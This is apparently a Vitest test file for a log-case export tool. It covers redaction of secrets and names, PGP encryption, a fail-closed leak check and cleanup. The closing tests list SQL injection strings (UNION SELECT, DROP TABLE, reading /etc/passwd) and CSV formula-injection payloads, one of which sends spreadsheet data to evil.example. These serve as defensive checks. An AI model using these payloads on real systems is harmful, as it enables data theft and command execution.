// Exports of a real imported case: every format written, redacted, checked and (by default) encrypted with real
// keys; the fail-closed check blocks a leak and leaves nothing behind; hostile --where expressions are refused.
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import * as openpgp from 'openpgp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CaseInfo } from '../../../shared/domain';
import { removeDir, tempDir } from '../../testkit/tmp';
import { Engine } from '../engine';
import type { CaseHandle } from '../case/caseStore';
import { parseCsv, readBack } from './formats';
import { sealStream } from '../crypto/pgp';
import { type ClientRecipient, redactionSetupFor, runExport } from './run';
import { buildSelection } from './select';
import { checkWhere } from './where';

const root = tempDir('casefile-export-');
let engine: Engine;
let info: CaseInfo;
let h: CaseHandle;

const SECRET = 'Zq81bX0pLm3nR7sTw';
const system = [
  { asctime: '2023-07-28 16:54:53,016', name: 'app', levelname: 'INFO', message: 'login ok', user: 'venkata', created: 1690543493.016, pathname: '/home/venkata/Code/app.py' },
  { asctime: '2023-07-28 16:54:54,016', name: 'app', levelname: 'ERROR', message: `db connect postgresql://scribble:${SECRET}@db7.acme.internal:5432/enrich failed for GAMMA1234 in /app/scribble/.virtualenvs/scribble3.8/bin`, created: 1690543494.016 },
  { asctime: '2023-07-28 16:54:55,016', name: 'app', levelname: 'DEBUG', message: 'Query Status: pending', created: 1690543495.016, data: JSON.stringify({ api_key: SECRET, email: 'priya@acme-client.in' }) },
  // a name under its field in one event and in free text (a Celery argsrepr) in another
  { asctime: '2023-07-28 16:54:56,016', name: 'app', levelname: 'INFO', message: 'refund queued', beneficiary_name: 'Tomás Garcia', created: 1690543496.016 },
  { asctime: '2023-07-28 16:54:57,016', name: 'app', levelname: 'DEBUG', message: `Apply (args:({'query': 'refund approved by Tomás Garcia after review'},))`, created: 1690543497.016 },
  // a user that only a URL-encoded /home/ path names, and the same user in free text in another event (the
  // redaction corpus, seed 5: its export was blocked, the harvest read only the path's plain slashes)
  { asctime: '2023-07-28 16:54:58,016', name: 'app', levelname: 'DEBUG', message: 'GET /dashboard/usecases/Compliance/search?q=file%20%2Fhome%2Fpriyas51%2Fnotebooks%2Frun.ipynb&page=1', created: 1690543498.016 },
  { asctime: '2023-07-28 16:54:59,016', name: 'app', levelname: 'DEBUG', message: 'Query Status: pending', created: 1690543499.016, data: JSON.stringify({ query: 'how many rows?', context: 'search for SIGMA1124 by priyas51' }, null, 4) },
].map((o) => JSON.stringify(o)).join('\n') + '\n';

async function keyPair(name: string) {
  const k = await openpgp.generateKey({ type: 'ecc', curve: 'curve25519Legacy', userIDs: [{ name, email: `${name}@example.com` }], format: 'object' });
  const recipient: ClientRecipient = {
    fingerprint: k.publicKey.getFingerprint(),
    encrypt: async (data) => openpgp.encrypt({ message: await openpgp.createMessage({ binary: data }), encryptionKeys: k.publicKey, config: { aeadProtect: false } }) as Promise<string>,
    encryptStream: (data) => sealStream(data, [k.publicKey]),
  };
  const decrypt = async (armored: string) => (await openpgp.decrypt({ message: await openpgp.readMessage({ armoredMessage: armored }), decryptionKeys: k.privateKey, format: 'binary' })).data as Uint8Array;
  return { recipient, decrypt };
}

beforeAll(async () => {
  process.env.CASEFILE_HOME = path.join(root, 'home');
  const bundle = path.join(root, 'bundle');
  fs.mkdirSync(path.join(bundle, 'enrich/logs/app'), { recursive: true });
  fs.writeFileSync(path.join(bundle, 'enrich/logs/app/app.json.log'), system);
  engine = await Engine.create({ via: 'test' });
  info = await engine.call('cases.create', { name: 'export', dir: path.join(root, 'case') });
  await engine.call('import.paths', { caseId: info.id, paths: [bundle] });
  h = engine.context.getCase(info.id);
}, 120_000);

afterAll(async () => {
  await engine?.close();
  removeDir(root);
});

describe('export', () => {
  it('writes every format redacted, with report and manifest, encrypted to the client, map to the operator', async () => {
    const client = await keyPair('client');
    const operator = await keyPair('operator');
    for (const format of ['jsonl', 'csv', 'parquet'] as const) {
      const r = await runExport(h, { selection: {}, format, recipient: client.recipient, operator: operator.recipient, workers: 1 });
      expect(r.events).toBe(7);
      expect(r.encrypted).toBe(true);
      expect(fs.readdirSync(r.dir).sort()).toEqual([`events.${format}.pgp`, 'manifest.json.pgp', 'report.json.pgp']);
      const plain = path.join(root, `plain.${format}`);
      fs.writeFileSync(plain, await client.decrypt(fs.readFileSync(path.join(r.dir, `events.${format}.pgp`), 'utf8')));
      const rows = [];
      for await (const row of readBack(plain, format)) rows.push(row);
      const all = JSON.stringify(rows);
      // scribble3.8: a harvested name before a digit (it went out whole, 76 times in a 27-event extract)
      expect(all).not.toMatch(new RegExp(`${SECRET}|venkata|priyas51|scribble|GAMMA1234|priya@|db7\\.acme`));
      expect(all).toContain('<secret:');
      expect(all).toMatch(/<user:[A-Z2-7]{10}>/);
      const manifest = JSON.parse(Buffer.from(await client.decrypt(fs.readFileSync(path.join(r.dir, 'manifest.json.pgp'), 'utf8'))).toString()) as { auditHead: string; files: { sha256: string }[] };
      expect(manifest.auditHead).toMatch(/^[0-9a-f]{64}$/);
      // the map is only in the case, and only the operator reads it
      const map = JSON.parse(Buffer.from(await operator.decrypt(fs.readFileSync(path.join(h.dir, 'redaction', `${r.exportId}.map.pgp`), 'utf8'))).toString()) as { entries: { type: string; original: string }[] };
      expect(map.entries.some((e) => e.type === 'user' && e.original === 'venkata')).toBe(true);
      await expect(client.decrypt(fs.readFileSync(path.join(h.dir, 'redaction', `${r.exportId}.map.pgp`), 'utf8'))).rejects.toThrow();
    }
    // GnuPG 2.2 reads it: SEIPD version 1 (no AEAD packet)
    const anyExport = fs.readdirSync(h.files.exports).find((d) => !d.startsWith('.'))!;
    const msg = await openpgp.readMessage({ armoredMessage: fs.readFileSync(path.join(h.files.exports, anyExport, 'report.json.pgp'), 'utf8') });
    const kinds = msg.packets.map((p) => p.constructor.name);
    expect(kinds).toContain('SymEncryptedIntegrityProtectedDataPacket');
    expect((msg.packets.findPacket(openpgp.enums.packet.symEncryptedIntegrityProtectedData) as unknown as { version: number }).version).toBe(1);
  });

  it('plaintext only when asked; a selection narrows what leaves', async () => {
    const r = await runExport(h, { selection: { where: "level = 'ERROR'" }, format: 'jsonl', recipient: null, workers: 1 });
    expect(r.events).toBe(1);
    const rows = fs.readFileSync(path.join(r.dir, 'events.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l) as { message: string });
    expect(rows[0]!.message, rows[0]!.message).toMatch(/^db connect postgresql:\/\/(?<u><user:\w+>):<secret:url-password>@<host:\w+>:5432\/enrich failed for <client_id:\w+> in \/app\/\k<u>\/\.virtualenvs\/\k<u>3\.8\/bin$/);
  });

  it('a name under its field anywhere in the case is replaced in free text too: the preview shows it, the export is not blocked', async () => {
    const where = "message LIKE 'Apply%'";
    const preview = await engine.call('export.preview', { caseId: info.id, selection: { where }, limit: 10 });
    const raw = preview.rows.find((r) => r.column === 'raw')!;
    expect(raw.text).toMatch(/refund approved by <name:[A-Z2-7]{10}> after review/);
    const r = await runExport(h, { selection: {}, format: 'jsonl', recipient: null, workers: 1 });
    const out = fs.readFileSync(path.join(r.dir, 'events.jsonl'), 'utf8');
    expect(out).not.toContain('Garcia');
    expect(out.match(/<name:[A-Z2-7]{10}>/g)!.length).toBeGreaterThanOrEqual(2);
  });

  it('harvests the users that only a /home/ path or URL userinfo names (rows without those literals are not searched)', async () => {
    const { harvest } = await redactionSetupFor(h, undefined, await buildSelection(h.db, {}));
    const users = harvest.filter((v) => v.type === 'user').map((v) => v.value);
    expect(users).toEqual(expect.arrayContaining(['venkata', 'scribble', 'priyas51']));
    // in a selection without the userinfo row, that user is not harvested from it
    const { harvest: narrow } = await redactionSetupFor(h, undefined, await buildSelection(h.db, { where: "level = 'INFO'" }));
    expect(narrow.filter((v) => v.type === 'user').map((v) => v.value)).not.toContain('scribble');
  });

  it('the tester with the case replaces what a whole-case export does: users only a /home/ path or URL userinfo names too', async () => {
    const line = 'search for SIGMA1124 by priyas51 as scribble';
    const r = await engine.call('redact.test', { caseId: info.id, lines: [line] });
    expect(r.lines[0]!.text).not.toMatch(/priyas51|scribble/);
    expect(r.lines[0]!.replacements.filter((x) => x.type === 'user')).toHaveLength(2);
  });

  it('the selection named in the report and manifest is redacted like the data, with the same tokens', async () => {
    const r = await runExport(h, { selection: { where: "raw LIKE '%\"venkata\"%'" }, format: 'jsonl', recipient: null, workers: 1 });
    expect(r.events).toBe(1);
    const data = fs.readFileSync(path.join(r.dir, 'events.jsonl'), 'utf8');
    const report = JSON.parse(fs.readFileSync(path.join(r.dir, 'report.json'), 'utf8')) as { selection: string };
    const manifest = JSON.parse(fs.readFileSync(path.join(r.dir, 'manifest.json'), 'utf8')) as { query: string };
    const token = /<user:[A-Z2-7]{10}>/.exec(data)![0];
    for (const text of [report.selection, manifest.query]) {
      expect(text).not.toContain('venkata');
      expect(text).toContain(token);
    }
  });

  it('fail-closed: a value that only the re-scan sees blocks the export, names where, and leaves nothing', async () => {
    const before = fs.readdirSync(h.files.exports).sort();
    // the client's word list replaces "pending" in the data, but the selection itself (written, redacted, in the
    // report and manifest) is a --where the redactor cannot rewrite inside SQL quotes: the check must catch it
    const blocked = runExport(h, { selection: { where: "message LIKE '%Zq81bX0pLm3nR7sTw%'" }, format: 'jsonl', recipient: null, workers: 1 });
    await expect(blocked).rejects.toThrow(/blocked by the fail-closed check/);
    await expect(blocked).rejects.toMatchObject({ code: 'blocked' });
    await expect(blocked).rejects.not.toThrow(new RegExp(SECRET));
    // said what to do: here the selection itself names the value (the report and manifest record it)
    await expect(blocked).rejects.toThrow(/Nothing was written\. report\.json and manifest\.json name the selection: its --where, filter text or chain key holds a value the extract replaces; select those events without naming it/);
    expect(fs.readdirSync(h.files.exports).sort()).toEqual(before);
    // through the contract the places come as a list (the dialog lists them), on the call's error and on its job
    const call = engine.call('export.run', { caseId: info.id, selection: { where: "message LIKE '%Zq81bX0pLm3nR7sTw%'" }, format: 'jsonl', plaintext: true, jobId: 'export-blocked-places' });
    await expect(call).rejects.toMatchObject({ error: { code: 'blocked', places: expect.arrayContaining(['manifest.json']) } });
    const job = (await engine.call('jobs.list', { caseId: info.id })).find((j) => j.jobId === 'export-blocked-places');
    expect(job).toMatchObject({ state: 'failed', code: 'blocked', places: expect.arrayContaining(['manifest.json']) });
  });

  it('cancel stops the export between batches and leaves nothing behind', async () => {
    const before = fs.readdirSync(h.files.exports).sort();
    const ac = new AbortController();
    ac.abort(new Error('cancelled by the operator'));
    await expect(runExport(h, { selection: {}, format: 'jsonl', recipient: null, workers: 1, signal: ac.signal })).rejects.toThrow(/cancelled/);
    expect(fs.readdirSync(h.files.exports).sort()).toEqual(before);
  });

  it('says it is collecting what to replace before the first batch, and a cancel then stops its reads (it waited for them)', async () => {
    const before = fs.readdirSync(h.files.exports).sort();
    const phases: string[] = [];
    const ac = new AbortController();
    const run = runExport(h, {
      selection: {}, format: 'jsonl', recipient: null, workers: 1, signal: ac.signal,
      // cancelled as soon as the setup is said: on a 1 GB case its reads take tens of seconds with no step to show
      onProgress: (p) => { phases.push(p.phase); if (p.phase === 'setup') ac.abort(new Error('cancelled by the operator')); },
    });
    // the setup's first read is refused (code `cancelled`), not the check between batches after the whole setup
    await expect(run).rejects.toMatchObject({ code: 'cancelled', message: expect.stringMatching(/request was cancelled/) });
    expect(phases).toEqual(['setup']);
    expect(fs.readdirSync(h.files.exports).sort()).toEqual(before);
  });

  it('removes the partial extract an export killed midway left (its process gone), never a live or another host\'s one', async () => {
    // What a CLI export stopped with Ctrl-C or killed leaves: its staging folder, a partial extract not yet re-scanned.
    const dead = spawnSync(process.execPath, ['-e', '0']).pid!;
    const leftover = (name: string, ageMs = 0) => {
      const d = path.join(h.files.exports, name);
      fs.mkdirSync(d, { recursive: true });
      fs.writeFileSync(path.join(d, 'events.jsonl'), '{"message":"partial"}\n');
      const t = new Date(Date.now() - ageMs);
      fs.utimesSync(d, t, t);
      return name;
    };
    const killed = leftover(`.staging-20260101T000000-0badc0de@${os.hostname()}@${dead}`);
    const old = leftover('.staging-20260101T000000-0ld0ld00', 2 * 3_600_000); // made before staging names said whose
    const live = leftover(`.staging-20260101T000000-11ve11ve@${os.hostname()}@${process.ppid}`);
    const foreign = leftover(`.staging-20260101T000000-f0e1f0e1@other-host.example@${dead}`);
    const recent = leftover('.staging-20260101T000000-4ecen700');
    const r = await runExport(h, { selection: { where: "level = 'ERROR'" }, format: 'jsonl', recipient: null, workers: 1 });
    const left = fs.readdirSync(h.files.exports);
    expect(left).toContain(path.basename(r.dir));
    expect(left).not.toContain(killed);
    expect(left).not.toContain(old);
    expect(left).toEqual(expect.arrayContaining([live, foreign, recent]));
    for (const n of [live, foreign, recent]) fs.rmSync(path.join(h.files.exports, n), { recursive: true });
  });

  it('refuses hostile --where expressions before running anything', async () => {
    for (const bad of ["1=1) UNION SELECT 1 FROM files WHERE (1=1", 'id IN (SELECT event_id FROM identifiers)', "read_csv('/etc/passwd') IS NOT NULL",
      '1=1; DROP TABLE events', "1=1 -- x", 'level = ', "getenv('HOME') = 'x'"]) {
      await expect(checkWhere(h.db, bad), bad).rejects.toThrow(/where/i);
    }
    await expect(checkWhere(h.db, "level = 'ERROR' AND source LIKE 'sys%'")).resolves.toBeTruthy();
  });

  it('a --where may hold ";", "--" and "/*" inside quoted text (a logged command line, a cookie); outside it, or near $ or \\ quoting, they stay refused', async () => {
    for (const ok of ["message LIKE '%--dry-run%'", "raw LIKE '%; Path=/%'", "message NOT LIKE '%/* x */%' AND level <> 'it''s; --'", 'level = \'ERROR\' OR "message" LIKE \'%;%\'']) {
      await expect(checkWhere(h.db, ok), ok).resolves.toBe(ok);
    }
    const sel = await buildSelection(h.db, { where: "message NOT LIKE '%--dry-run%'" });
    const [{ n }] = await h.db.read<{ n: number }>(`SELECT count(*)::INTEGER AS n FROM events s WHERE ${sel.cond}`, sel.params.values) as [{ n: number }];
    expect(n).toBe(7);
    for (const bad of ["level = 'x' -- ' OR 1=1", "level = 'x'; SELECT 1", "level = 'x' /* ' */", "level = 'it''s' --", "message LIKE 'a' -- 'b'",
      "level = $$ ' $$ -- '", "level = E'\\'' -- '", "level = 'unclosed -- "]) {
      await expect(checkWhere(h.db, bad), bad).rejects.toThrow(/where/i);
    }
  });

  it('a CSV extract opened in a spreadsheet runs no formula: such cells start with \', and the report says why', async () => {
    const dir = path.join(root, 'formula-bundle');
    fs.mkdirSync(dir, { recursive: true });
    const line = (message: string) => JSON.stringify({ asctime: '2023-07-28 16:54:53,016', name: 'app', levelname: 'WARNING', message, created: 1690543493.016 });
    fs.writeFileSync(path.join(dir, 'formula.json.log'), [line('=HYPERLINK("http://evil.example/?"&A1,"open")'), line("@SUM(1+1)*cmd|' /C calc'!A0")].join('\n') + '\n');
    const other = await engine.call('cases.create', { name: 'formula', dir: path.join(root, 'formula-case') });
    await engine.call('import.paths', { caseId: other.id, paths: [dir] });
    const r = await runExport(engine.context.getCase(other.id), { selection: {}, format: 'csv', recipient: null, workers: 1 });
    const text = fs.readFileSync(path.join(r.dir, 'events.csv'), 'utf8');
    const messageAt = text.split('\r\n')[0]!.split(',').indexOf('message');
    const messages = [...parseCsv(text)].slice(1).map((row) => row[messageAt]).sort();
    expect(messages[0]).toMatch(/^'=HYPERLINK\("http:\/\/<host:\w+>\/\?"&A1,"open"\)$/);
    expect(messages[1]).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    const report = JSON.parse(fs.readFileSync(path.join(r.dir, 'report.json'), 'utf8')) as { settings: { csvFormulaCells?: string } };
    expect(report.settings.csvFormulaCells).toMatch(/begins with =, \+, -, @/);
  });
});
